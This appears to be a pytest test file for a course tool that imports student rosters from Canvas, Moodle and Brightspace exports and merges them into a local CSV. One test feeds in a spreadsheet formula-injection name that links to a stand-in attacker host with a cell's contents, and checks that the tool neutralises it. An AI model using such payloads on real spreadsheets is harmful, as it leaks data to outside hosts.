"""`coursekit roster`: each system's own export of its people, as it writes them."""

from __future__ import annotations

import csv
import io
import unicodedata
from pathlib import Path

import pytest
from downloads import NOTEBOOK, a_notebook, zipped
from tables import table

from coursekit.course import Course
from coursekit.lms import system
from coursekit.lms.roster import columns, read_roster, unique
from coursekit.support.spreadsheet import is_formula

DATA = table("roster_files")
CANVAS = DATA["canvas"]
MOODLE_ROWS = DATA["moodle-rows"]
BRIGHTSPACE = DATA["brightspace"]
MOODLE = DATA["moodle"]


@pytest.fixture
def course(released_course) -> Path:
    return released_course


def update(course: Path, coursekit, text: str, encoding: str = "utf-8-sig") -> tuple[int, str]:
    (course / "export.csv").write_bytes(text.encode(encoding))
    code, out, err = coursekit(course, "roster", str(course / "export.csv"))
    return code, out + err


def roster(course: Path) -> dict[str, dict[str, str]]:
    text = (course / "roster.csv").read_text(encoding="utf-8-sig")
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text))}


def ids(course: Path, column: str) -> dict[str, str]:
    return {student: row[column] for student, row in roster(course).items()}


def test_who_has_withdrawn_and_is_back_is_named(course, coursekit):
    """Their work would be collected, and nobody would wonder why it has no mark."""
    assert update(course, coursekit, CANVAS)[0] == 0
    assert coursekit(course, "withdraw", "jpena", "wzhang", "--because", "left")[0] == 0
    without = "".join(line for line in CANVAS.splitlines(True) if "1235" not in line)
    assert "not in the export" not in update(course, coursekit, without)[1]  # that was decided
    download = zipped(course / "d.zip", {f"zhangwei_1236_5_{NOTEBOOK}": a_notebook(course)})
    out = coursekit(course, "collect", "hw1", str(download))[1]
    assert "wzhang: withdrawn, so kept here but not graded; see `coursekit people`" in out
    assert coursekit(course, "people", "--undo", "1")[0] == 0
    assert "withdrawn" not in coursekit(course, "collect", "hw1", str(download))[1]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("ends", ["\n", "\r\n", "\r"])
def test_canvas_gradebook(course, coursekit, encoding, separator, ends):
    table = csv.reader(io.StringIO(CANVAS))
    out = io.StringIO()
    csv.writer(out, delimiter=separator, lineterminator=ends).writerows(table)
    code, said = update(course, coursekit, out.getvalue(), encoding)
    assert code == 0, said
    assert ids(course, "canvas_id") == {
        "alovelace": "1234", "jpena": "1235", "wzhang": "1236", "wzhang2": "1237",
    }  # fmt: skip
    jose = roster(course)["jpena"]
    assert (jose["first_name"], jose["last_name"]) == ("José", "Peña García")
    assert (jose["sis_user_id"], jose["section"]) == ("S-002", "L 1 and L 2")
    assert "Student Test" in said or "Test Student" in said
    assert "the system's own test student" in said
    before = (course / "roster.csv").read_bytes()
    assert update(course, coursekit, out.getvalue(), encoding)[0] == 0
    assert (course / "roster.csv").read_bytes() == before


def test_canvas_with_names_in_two_columns(course, coursekit):
    text = (
        "LastName,FirstName,ID,SIS Login ID,Section,HW (1)\n"
        "    Points Possible,,,,,5.00\nLovelace,Ada,1234,alovelace,L 1,\n"
    )
    code, said = update(course, coursekit, text)
    assert (code, ids(course, "canvas_id")) == (0, {"alovelace": "1234"})
    assert "left out" not in said


def test_somebody_without_any_id_is_named_wherever_the_row_stands(course, coursekit):
    lines, emmy = CANVAS.splitlines(), '"Noether, Emmy",,,,L 1,,'
    for above, below in (lines[:3], lines[3:]), (lines[:5], lines[5:]), (lines[:1], lines[3:]):
        said = update(course, coursekit, "\n".join([*above, emmy, *below]))[1]
        assert f"row {len(above) + 1}: Emmy Noether: has no id" in said
        assert "Points Possible" not in said
    moodle = MOODLE_ROWS.splitlines()
    moodle.insert(0, "Emmy,Noether,,,Student,")
    said = update(course, coursekit, "\n".join([MOODLE["en"], *moodle]))[1]
    assert "row 2: Emmy Noether: has no id" in said


@pytest.mark.parametrize("language", MOODLE)
def test_moodle_participants(course, coursekit, language):
    code, said = update(course, coursekit, f"{MOODLE[language]}\n{MOODLE_ROWS}")
    assert code == 0, said
    assert ids(course, "id_number") == {"ada": "007", "jose": "008"}
    assert ids(course, "groups") == {"ada": "Team 7, Lab A", "jose": "Team 7"}
    assert "Grace Hopper: Teacher, no student" in said


def test_moodle_in_words_that_are_not_known(course, coursekit):
    """A column of ids would be lost without a word, and so would a class."""
    text = f"{MOODLE['en']}\n{MOODLE_ROWS}".replace("ID number", "Kood")
    code, said = update(course, coursekit, text)
    assert code == 0
    assert set(ids(course, "email")) == {"ada", "jose"}
    (course / "roster.csv").unlink()
    code, said = update(course, coursekit, text.replace("Student", "Õppija"))
    assert code == 2
    assert (
        "export.csv: nobody in it has a role that is known to be a student's: Õppija (2), "
        "Teacher (1). Take teachers' rows and the column of roles out of a copy"
    ) in said
    assert not (course / "roster.csv").exists()
    without = text.replace(",Roles", "").replace(",Student,", ",").replace("Teacher,", "")
    assert update(course, coursekit, without.replace("\nGrace", "\nMax"))[0] == 0
    code, said = update(course, coursekit, text.replace("Student", "Aluno"))
    assert code == 0, said


def test_a_name_in_one_column_does_not_part_that_of_the_roster_anew(course, coursekit):
    """Of "José Peña García" nothing says which of the three are his last name."""
    assert update(course, coursekit, f"{MOODLE['en']}\n{MOODLE_ROWS}")[0] == 0
    before = (course / "roster.csv").read_bytes()
    whole = "Full name,ID number\nJosé Peña García,008\nAda Lovelace,007\n"
    assert "0 new, 0 changed" in update(course, coursekit, whole)[1]
    assert (course / "roster.csv").read_bytes() == before
    assert "0 new, 1 changed" in update(course, coursekit, whole.replace("Lovelace", "King"))[1]
    assert roster(course)["ada"]["last_name"] == "King"


def test_a_name_that_canvas_keeps_from_being_computed(course, coursekit):
    """As `="=SUM, Bo"`: Canvas's own formula around a name that looks like one."""
    text = CANVAS.replace('"Lovelace, Ada"', '"=""=SUM, Bo"""')
    assert update(course, coursekit, text)[0] == 0
    ada = next(iter(read_roster(Course(course)).students.values()))
    assert (ada.first_name, ada.last_name) == ("Bo", "=SUM")


@pytest.mark.parametrize("word", ["No groups", "Keine Gruppen", "Aucun groupe"])
def test_moodles_word_for_no_group_is_no_group(course, coursekit, word):
    rows = f"Ada,Lovelace,ada@example.org,007,{word},Student\n"
    heading = "First name,Last name,Email address,ID number,Groups,Roles\n"
    code, said = update(course, coursekit, heading + rows)
    assert code == 0, said
    assert word not in (course / "roster.csv").read_text(encoding="utf-8")


def test_brightspace_grades(course, coursekit):
    code, said = update(course, coursekit, BRIGHTSPACE)
    assert code == 0, said
    assert ids(course, "org_defined_id") == {"alovelace": "0400123", "jpena": "0400124"}
    assert ids(course, "username") == {"alovelace": "alovelace", "jpena": "jpena"}


@pytest.mark.parametrize("form", ["NFC", "NFD"])
def test_what_is_there_is_kept_and_systems_are_put_together(course, coursekit, form):
    """Our ids, columns of one's own, their order, people whom the export does not have."""
    old = (
        "id;last_name;first_name;my notes;section\n"
        "al;Lovelace;Ada;sits in front;\n"
        f"jp;{unicodedata.normalize(form, 'Peña García')};José;;L 9\n"
        'em;Noether;Emmy;"left; came back";L 3\n'
    )
    (course / "roster.csv").write_text(old, encoding="utf-8")
    assert update(course, coursekit, CANVAS)[0] == 0
    code, said = update(course, coursekit, BRIGHTSPACE)
    assert code == 0
    text = (course / "roster.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][:5] == ["id", "last_name", "first_name", "my notes", "section"]
    found = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert list(found) == ["al", "jp", "em", "wzhang", "wzhang2"]
    assert found["al"]["my notes"] == "sits in front"
    assert found["em"]["my notes"] == "left; came back"
    assert (found["jp"]["canvas_id"], found["jp"]["org_defined_id"]) == ("1235", "0400124")
    assert found["jp"]["section"] == "L 1 and L 2"
    assert "not in the export, kept:\n  em, wzhang, wzhang2" in said
    kept = sorted((course / "collected/rosters").glob("*.csv"))
    assert kept[0].read_text(encoding="utf-8") == old


def test_ids_that_contradict_are_for_a_person(course, coursekit):
    (course / "roster.csv").write_text(
        "id,first_name,last_name,canvas_id,sis_user_id\n"
        "al,Ada,Lovelace,1234,S-999\n"  # another id of the registrar's
        "wz,Wei,Zhang,1230,\n",  # neither of the two in the export
        encoding="utf-8",
    )
    code, said = update(course, coursekit, CANVAS)
    assert code == 1
    assert "al has sis_user_id S-999, and S-001 in the export" in said
    assert "where the export is right, write its ids into roster.csv" in said
    assert roster(course)["al"]["sis_user_id"] == "S-999"
    assert ids(course, "canvas_id")["wz"] == "1230"
    assert {"wzhang", "wzhang2", "jpena"} < roster(course).keys()


def test_one_name_twice_is_never_guessed(course, coursekit):
    (course / "roster.csv").write_text("id,first_name,last_name\nwz,Wei,Zhang\n", encoding="utf-8")
    code, said = update(course, coursekit, CANVAS)
    assert code == 1
    assert said.count("wz could be 2 people of this name") == 2
    assert roster(course)["wz"].get("canvas_id", "") == ""


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (CANVAS.replace("1234,", "1.23457E+11,"), "row 4: '1.23457E+11' has lost its digits"),
        ("", "it has the columns none"),
        ("handle,team,ada_l\nada@example.org,7,Ada L\n", "export.csv: not one of"),
        ("名,姓,学号\n明,李,007\n", "Export it in English, or write the roster by hand"),
    ],
)
def test_what_is_no_export(course, coursekit, text, message):
    code, said = update(course, coursekit, text)
    assert code == 2
    assert message in said
    assert not (course / "roster.csv").exists()


def test_a_system_with_nothing_but_a_number(course, coursekit, monkeypatch):
    """As a new one may be: what it does not say is not asked."""

    class Campus(system.System):
        name, title, people, order = "campus", "Campus", "Campus's members", 40
        columns = ids = ("campus_id",)
        number, headings = "campus_id", "campus_id campusid"

        def lists(self, columns: set[str]) -> bool:
            return "campus_id" in columns

    monkeypatch.setitem(system.REGISTERED, "campus", Campus())
    text = "Name,Campus ID,Email\nAda Lovelace,C7001,ada@example.org\nKim Lee,C7002,\n"
    code, said = update(course, coursekit, text)
    assert (code, "roster.csv, from Campus: 2 new" in said) == (0, True), said
    students = read_roster(Course(course)).students
    assert {one.id: one.campus_id for one in students.values()} == {
        "ada": "C7001", "kim-lee-C7002": "C7002",
    }  # fmt: skip


def test_quoted_line_ends_empty_columns_and_numbers_as_spreadsheets_leave_them(course, coursekit):
    text = (
        'sep=,\n"First\nname",,Last name,Email address,ID number,\n'
        'Ada,,Lovelace,ada@example.org,12345.0,\n"Grace\nBrewster",,Hopper,g@example.org,678.0,\n'
    )
    code, said = update(course, coursekit, text)
    assert code == 0, said
    assert ids(course, "id_number") == {"ada": "12345", "g": "678"}
    assert roster(course)["g"]["first_name"] == "Grace Brewster"


def test_each_column_is_an_id_but_those_that_people_may_share():
    assert {*columns()} - {*unique()} == {"first_name", "last_name", "section", "groups"}


def test_names_and_ids_are_no_formulas_and_stay_what_they_are(course, coursekit):
    """In the file, which people open; read again they are the same, and found by the same."""
    heading = "Student,ID,SIS User ID,SIS Login ID,Section\n"
    export = (
        f"{heading},,,,\n"
        '"=HYPERLINK(""http://evil.example/""&A1), Eve",1,S1,eve,-1\n'
        '"\'t Hooft, Gerard",2,-12,@gerard,L 1\n"-Dash, +Plus",3,S3,dash,L 1\n'
        '"\'=Quote, Una",4,S4,una,L 1\n'
    )
    assert update(course, coursekit, export)[0] == 0
    found = roster(course)
    eve = next(row for row in found.values() if row["canvas_id"] == "1")
    assert eve["last_name"] == '\'=HYPERLINK("http://evil.example/"&A1)'
    cells = [cell for row in found.values() for cell in row.values()]
    assert [cell for cell in cells if is_formula(cell)] == []
    known = {one.canvas_id: one for one in read_roster(Course(course)).students.values()}
    assert {one.name for one in known.values()} == {
        'Eve =HYPERLINK("http://evil.example/"&A1)', "Gerard 't Hooft", "+Plus -Dash",
        "Una '=Quote",
    }  # fmt: skip
    assert (known["2"].sis_user_id, known["2"].sis_login_id) == ("-12", "@gerard")
    before = (course / "roster.csv").read_bytes()
    assert "0 new, 0 changed" in update(course, coursekit, export)[1]
    more = f'{export}"New, One",5,S5,one,L 1\n'
    assert "1 new, 0 changed" in update(course, coursekit, more)[1]
    assert (course / "roster.csv").read_bytes().startswith(before)


def test_what_people_have_written_into_the_roster_stays(course, coursekit):
    old = 'id,first_name,last_name,canvas_id,extra\n"=""007""",Ada,Lovelace,,-5\n'
    (course / "roster.csv").write_text(old, encoding="utf-8")
    assert update(course, coursekit, CANVAS)[0] == 0
    assert '"=""007""",Ada,Lovelace,1234,-5,' in (course / "roster.csv").read_text("utf-8")


def test_a_name_that_a_spreadsheet_took_for_a_formula(course, coursekit):
    (course / "roster.csv").write_text(
        "id,first_name,last_name\nada,Ada,#NAME?\n", encoding="utf-8"
    )
    code, said = update(course, coursekit, CANVAS)
    assert code == 2
    assert "roster.csv, row 2: last_name is #NAME?, which a spreadsheet makes of a text" in said
